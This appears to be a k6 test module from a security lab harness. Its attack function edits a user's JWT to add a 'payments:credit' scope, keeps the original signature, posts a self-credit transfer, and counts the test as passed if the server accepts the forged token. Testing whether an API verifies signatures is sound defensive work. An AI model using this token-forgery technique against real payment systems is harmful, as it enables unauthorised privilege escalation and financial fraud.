// Alice puts payments:credit into her own token and gives herself credits.
import { claims } from '../lib/lab.js';
import { key, own } from '../lib/forge.js';
import encoding from 'k6/encoding';

export function benign(lab) { own(lab); }

export function attack(lab) {
  const [h, , s] = lab.tokens.alice.split('.');
  const payload = claims(lab.tokens.alice);
  payload.scope += ' payments:credit';
  const token = `${h}.${encoding.b64encode(JSON.stringify(payload), 'rawurl')}.${s}`;
  const res = lab.http({ method: 'POST', path: '/v1/transfers', token, headers: [key()], body: { to: 'alice', amount: 5, memo: 'scope-upgrade' } });
  lab.judge(res.status === 201, `status ${res.status}`);
}
